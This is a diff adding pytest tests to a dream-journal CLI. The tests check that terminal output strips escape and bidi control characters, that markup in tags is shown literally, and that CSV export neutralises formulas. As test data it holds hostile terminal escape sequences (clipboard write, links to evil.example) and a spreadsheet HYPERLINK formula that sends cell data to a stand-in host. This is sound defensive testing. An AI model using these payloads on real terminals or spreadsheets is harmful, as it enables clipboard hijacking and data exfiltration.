@@ -394,3 +394,114 @@ def test_salvage_of_a_journal_whose_table_list_is_gone_is_one_line(cli, db_path,
     _flip_pages(db_path, [1], size=100)
     one_error_line(cli("salvage", tmp_path / "out.db"))
     assert not (tmp_path / "out.db").exists()
+
+
+# -- 5. one escaping policy per output kind ------------------------------------------------------
+
+# OSC 52 (clipboard write), OSC 8 (a link), a screen clear, C1 CSI (U+009B), bidi overrides
+HOSTILE = ("I was chased \x1b]52;c;ZXZpbA==\x07 down \x1b]8;;http://evil.example/\x07a hall\x1b]8;;\x07 "
+           "\x1b[2J\x9b31m and my legs were heavy \u202eesrever\u202c \u2066isolate\u2069")
+CONTROLS = ["\x1b", "\x07", "\x9b", "\u202e", "\u202c", "\u2066", "\u2069"]
+
+
+def no_controls(text: str) -> None:
+    for ch in CONTROLS:
+        assert ch not in text, f"U+{ord(ch):04X} reached the output"
+
+
+def test_every_terminal_view_replaces_control_and_bidi_characters(cli, db_path):
+    add(cli, HOSTILE, "--title", "Hall \x1b[31mred\u202e", "-t", "work\x9b", "-c", "exams \x1b]52;c;eA==\x07",
+        "--nightmare")
+    for args in (["list"], ["show", "1"], ["search", "chased"], ["patterns"], ["patterns", "--markdown"],
+                 ["interpret", "1", "--dry-run"], ["picture", "1", "--prompt"], ["rehearse", "1"]):
+        result = cli(*args)
+        if args[0] != "rehearse":
+            assert result.exit_code == 0, (args, result.stderr)
+        no_controls(result.stdout)
+        no_controls(result.stderr)
+    # --json keeps the data exactly, but as \u escapes: nothing raw reaches a terminal
+    raw = cli("show", "1", "--json").stdout
+    no_controls(raw)
+    assert json.loads(raw)["body"] == HOSTILE
+
+
+def test_rich_markup_in_a_tag_is_shown_as_typed(cli, db_path):
+    add(cli, "a dream", "-t", "[/]")
+    add(cli, "another dream", "-t", "[link=https://evil.example]click[/link]")
+    result = cli("list")
+    assert result.exit_code == 0, result.stderr
+    assert "[/]" in result.stdout and "[link=https://evil." in result.stdout  # the tag column is 20 wide
+    assert "\x1b]8" not in result.stdout
+    assert cli("show", "2").exit_code == 0
+
+
+def test_csv_export_neutralises_formulas_and_round_trips_tags_and_long_dreams(cli, db_path, tmp_path):
+    import csv
+
+    long_body = "I walked and walked. " * 8000  # 168,000 characters: over csv's default field limit
+    add(cli, '=HYPERLINK("http://evil.example/?d="&C3,"click")', "--title", "@SUM(1)", "-t", "a, b", "-t", "c; d",
+        "-t", "back\\slash", "-c", "+1 day")
+    add(cli, long_body, "-t", "'quoted")
+    out = tmp_path / "journal.csv"
+    assert cli("export", "-f", "csv", "-o", out).exit_code == 0
+    csv.field_size_limit(10**7)
+    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
+    for row in rows:
+        for column in ("title", "text", "tags", "context"):
+            assert not row[column].startswith(("=", "+", "-", "@")), (column, row[column][:20])
+    copy = tmp_path / "copy.db"
+    result = cli("import", out, "--db", copy)
+    assert result.exit_code == 0, result.stderr
+    def fields(db):
+        return sorted((d["body"], d["title"], d["tags"], d["context"])
+                      for d in json.loads(cli("list", "--json", "--db", db).stdout))
+
+    assert fields(copy) == fields(db_path)
+
+
+def test_split_notes_then_import_keep_every_line_of_a_dream(cli, db_path, tmp_path):
+    from dreamly.transfer import NOTES_MARKER
+
+    body = (f"The first line.\n{NOTES_MARKER}\nA line after the marker.\n\\{NOTES_MARKER}\n"
+            f"In the middle of a line {NOTES_MARKER} too.\nThe end.")
+    add(cli, body)
+    assert cli("rehearse", "1", f"a new ending\n{NOTES_MARKER}\nmore").exit_code == 0  # history with the marker
+    folder = tmp_path / "notes"
+    assert cli("export", "--split", "-o", folder).exit_code == 0
+    result = cli("import", folder, "--db", tmp_path / "copy.db")
+    assert result.exit_code == 0, result.stderr
+    assert json.loads(cli("show", "1", "--json", "--db", tmp_path / "copy.db").stdout)["body"] == body
+
+
+def _run_on_a_terminal(args: list[str], env: dict) -> str:
+    """Run dreamly with stdout on a real pseudo-terminal; what the terminal received."""
+    import pty
+
+    master, slave = pty.openpty()
+    process = subprocess.Popen([PY, "-m", "dreamly", *args], stdout=slave, stderr=subprocess.PIPE, env=env)
+    os.close(slave)
+    chunks = []
+    while True:
+        try:
+            data = os.read(master, 65536)
+        except OSError:  # EIO: the other side closed
+            break
+        if not data:
+            break
+        chunks.append(data)
+    process.wait(60)
+    process.stderr.close()
+    os.close(master)
+    return b"".join(chunks).decode("utf-8", "replace")
+
+
+@pytest.mark.slow
+def test_export_to_a_terminal_is_cleaned_but_into_a_pipe_comes_back_whole(cli, db_path):
+    add(cli, HOSTILE)
+    env = {**os.environ, "DREAMLY_DB": str(db_path)}
+    for fmt in ("markdown", "json", "csv"):
+        shown = _run_on_a_terminal(["export", "-f", fmt], env)
+        assert "chased" in shown
+        no_controls(shown)
+    piped = subprocess.run([PY, "-m", "dreamly", "export", "-f", "json"], env=env, capture_output=True, text=True)
+    assert json.loads(piped.stdout)["dreams"][0]["body"] == HOSTILE
